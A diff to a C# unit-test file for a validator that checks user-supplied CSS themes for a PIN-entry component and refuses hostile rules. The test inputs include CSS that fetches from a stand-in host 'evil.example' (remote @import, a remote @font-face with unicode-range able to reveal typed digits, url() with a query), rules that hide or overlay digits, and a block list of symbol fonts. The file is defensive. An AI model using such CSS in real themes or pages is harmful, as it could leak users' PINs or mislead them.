@@ -22,7 +22,7 @@ public sealed class HostileThemes
         { "#pin::part(title):not(:hover){color:#000}", "1:1", "#pin::part(title):not(:hover)" },
         { "#pin::part(entry):focus-visible:hover{outline-color:#000}", "1:1", "#pin::part(entry)" },
         { "#pin::part(entry):placeholder-shown{outline-color:#000}", "1:1", "#pin::part(entry):placeholder-shown" },
-        { "@font-face{font-family:x;src:local(\"x\");unicode-range:U+31}", "1:56", "+" },
+        { "@font-face{font-family:x;src:local(\"x\");unicode-range:U+31}", "1:1", "@font-face" },
         { "@font-face{font-family:x;src:local(\"x\")}", "1:1", "@font-face" },
         { "#pin::part(digit){width:1px}", "1:19", "width: 1px" },
         { "#pin::part(digit){height:9px}", "1:19", "height: 9px" },
@@ -40,10 +40,16 @@ public sealed class HostileThemes
         { "#pin::part(digit){color:transparent}", "1:19", "color: transparent" },
         { "#pin::part(digit){color:#0000}", "1:19", "color: #0000" },
         { "#pin::part(digit){color:rgb(0 0 0 / 0)}", "1:19", "color: rgb(0 0 0 / 0)" },
-        { "#pin::part(digit){color:#fffefb}", "1:1", "digit: color #fffefb" },
-        { "#pin::part(title){color:var(--pin-back)}", "1:1", "title: color var(--pin-back)" },
-        { "#pin::part(hide):hover{color:var(--pin-paper)}", "1:1", "hide: color" },
-        { "#pin::part(hide):hover{background-color:#222}\n#pin::part(hide):active{color:#333}", "1:1", "hide: color" },
+        { "#pin::part(digit){color:#fffefb}", "1:19", "digit: color #fffefb" },
+        { "#pin::part(title){color:var(--pin-back)}", "1:19", "title: color var(--pin-back)" },
+        { "#pin::part(hide):hover{color:var(--pin-paper)}", "1:24", "hide: color" },
+        { "#pin::part(hide):hover{background-color:#222}\n#pin::part(hide):active{color:#333}", "1:24", "hide: color" },
+        { "#pin::part(digit){color:#777;background-color:#fff;box-shadow:inset 0 0 4px rgb(0 0 0 / 40%)}", "1:19", "digit: color #777777 on #ffffff" },
+        { "#pin::part(digit){color:#333;background-color:#fff;box-shadow:inset 0 0 4px rgb(0 0 0 / 40%)}", "1:52", "digit: color #333333 on #ffffff under box-shadow" },
+        { "#pin::part(submit):active{box-shadow:inset 0 0 9px rgb(255 255 255 / 40%)}", "1:27", "submit: color" },
+        { "#pin::part(hide){border:1px solid #eee}", "1:18", "hide: border-color #eeeeee on --pin-back" },
+        { "#pin::part(hide){border-color:var(--pin-ink) var(--pin-ink) var(--pin-line)}", "1:18", "hide: border-color var(--pin-line)" },
+        { "#pin::part(suggest):hover{border-color:var(--pin-back)}", "1:27", "suggest: border-color" },
         { ":root{--pin-ink:#eee}", "1:7", "--pin-ink on --pin-paper" },
         { ":root{--pin-ink:transparent}", "1:7", "--pin-ink: transparent" },
         { "@media (prefers-color-scheme: dark){:root{\n--pin-paper:#fff}}", "2:1", "--pin-ink on --pin-paper" },
@@ -65,7 +71,7 @@ public sealed class HostileThemes
         { "#pin::part(entry){color:#000}", "1:19", "color: #000" },
         { "#pin::part(entry){-webkit-text-security:none}", "1:19", "-webkit-text-security: none" },
         { "#pin::part(keep):focus-visible{outline-width:0}", "1:32", "outline-width: 0" },
-        { "#pin::part(keep):focus-visible{outline-color:var(--pin-back)}", "1:1", "keep: outline-color" },
+        { "#pin::part(keep):focus-visible{outline-color:var(--pin-back)}", "1:32", "keep: outline-color" },
 
         // Instructions of somebody else's.
         { "#pin::part(title){content:\"Call us\"}", "1:19", "content: \"Call us\"" },
@@ -96,6 +102,7 @@ public sealed class HostileThemes
 
         // What would ask somebody, and could tell.
         { "@import \"x.css\";", "1:1", "@import" },
+        { "@import \"https://evil.example/x.css\";", "1:1", "@import" },
         { "@import url(x);", "1:1", "@import url(x)" },
         { "#pin::part(title){background-image:url(x)}", "1:19", "background-image: url(x)" },
         { "#pin::part(title){background:url(x)}", "1:19", "background: url(x)" },
@@ -123,6 +130,8 @@ public sealed class HostileThemes
         { ":root{--pin-font:\"a;}b{color:red}\"}", "1:18", "\"a;" },
         { "#pin::part(title){color:#000", "1:19", "color:#000" },
         { "#pin::part(title){color:#000}}", "1:30", "}" },
+        { "#pin::part(title){content:\"Call 555!\" !important}", "1:19", "content:" },
+        { "#pin::part(title){margin-top:calc(-1 * 200px)}", "1:19", "margin-top:" },
         { "junk;#pin::part(title){color:#000}", "1:1", "junk;" },
         { "#pin::part(title){color #000}", "1:19", "color #000" },
         { "#pin::part(title){& b{color:#000}}", "1:19", "&" },
@@ -170,6 +179,71 @@ public sealed class HostileThemes
         Assert.Null(hidden);
         Assert.Contains(inside, one => one.Line >= 2);
     }
+
+    [Theory]
+    [InlineData("@import \"https://evil.example/x.css\" layer(x) supports(a: b);", "A theme is one file, and asks for nothing.")]
+    [InlineData("@font-face { font-family: \"x\"; src: url(\"https://evil.example/x\") format(\"woff2\"); unicode-range: U+37 }", "A font of elsewhere would be a request, and could tell digits apart.")]
+    [InlineData("@property --pin-ink { syntax: \"<color>\"; inherits: true; initial-value: #000 }", "A theme makes no property of its own")]
+    [InlineData("@media (width >= 1px) { :root { --pin-ink: #000 } }", "Of media queries there is @media (prefers-color-scheme: dark) alone.")]
+    [InlineData("@scope (#pin) to (* > b) { :root { --pin-ink: #000 } }", "@scope is not for a theme")]
+    [InlineData("#pin::part(hide) { background-color: image-set(\"https://evil.example/x\" 1x) }", "image-set() names something to be fetched")]
+    [InlineData("#pin::part(hide) { background-color: url(https://evil.example/?x=1) }", "url() names something to be fetched")]
+    [InlineData("#pin::part(title) { margin-top: calc(-1 * 200px) }", "calc() is computed by the device")]
+    [InlineData("#pin::part(title) { margin-top: max(20px, 4px) }", "max() is computed by the device")]
+    [InlineData("#pin::part(title) { content: \"Call +1 555!\" }", "Text on a page is the page's own.")]
+    [InlineData("#pin::part(title) { color: hsl(0 0% 0%) }", "hsl() is not computed here")]
+    [InlineData("#pin::part(title) { font-family: \"MS Outlook\", serif }", "\"MS Outlook\" is known as a font that draws signs")]
+    [InlineData("#pin::part(title) { font-family: \"Shop+Sans\" }", "In quotes stands the name of a font")]
+    [InlineData("#pin::part(title) { font-family: var(--pin-ink) }", "font-family takes up to 12 fonts of the device, by name.")]
+    [InlineData("b > i { color: #000 }", "Only published parts are selected")]
+    public void The_reason_is_the_true_one_and_is_said_once(string css, string why)
+    {
+        var refusals = Theme.Read(css).Refusals;
+        Assert.StartsWith(why, Assert.Single(refusals).Why, StringComparison.Ordinal);
+        Assert.Equal(1, refusals[0].Line);
+    }
+
+    [Theory]
+    [InlineData("text-security-disc")]
+    [InlineData("Font Awesome 5 Free")]
+    [InlineData("Font Awesome 6 Brands")]
+    [InlineData("icomoon")]
+    [InlineData("Dotsfont")]
+    [InlineData("Flow Block")]
+    [InlineData("Flow Circular")]
+    [InlineData("Blokk Neue")]
+    [InlineData("Noto Sans Egyptian Hieroglyphs")]
+    [InlineData("Cuneiform")]
+    [InlineData("Webdings")]
+    [InlineData("Wingdings 2")]
+    [InlineData("ITC Zapf Dingbats")]
+    [InlineData("ZapfDingbats")]
+    [InlineData("Monotype Sorts")]
+    [InlineData("Segoe UI Symbol")]
+    [InlineData("SF Symbols")]
+    [InlineData("Segoe MDL2 Assets")]
+    [InlineData("Segoe Fluent Icons")]
+    [InlineData("Material Icons")]
+    [InlineData("Apple Color Emoji")]
+    [InlineData("Redacted Script")]
+    [InlineData("Libre Barcode 39")]
+    [InlineData("Adobe Blank")]
+    [InlineData("LastResort")]
+    [InlineData("MT Extra")]
+    [InlineData("WEB-DINGS")]
+    public void A_font_that_is_known_to_draw_signs_is_refused_for_that(string name)
+    {
+        foreach (var css in (string[])[$":root {{ --pin-font: \"{name}\", serif }}", $"#pin::part(title) {{ font-family: serif, '{name}' }}"])
+        {
+            Assert.StartsWith($"\"{name}\" is known as a font that draws signs", Assert.Single(Theme.Read(css).Refusals).Why, StringComparison.Ordinal);
+        }
+    }
+
+    [Theory]
+    [InlineData("Georgia, 'Times New Roman', serif")]
+    [InlineData("\"Segoe UI\", Roboto, \"Helvetica Neue\", \"Noto Sans\", \"DejaVu Sans\", sans-serif")]
+    [InlineData("Spalding, Redding, \"Harding Text\", \"Sign Painter\"")]
+    public void A_font_of_letters_is_not(string fonts) => Assert.NotNull(Theme.Read($":root {{ --pin-font: {fonts} }}").Theme);
 
     [Fact]
     public void Every_refusal_of_a_theme_is_named_at_once()
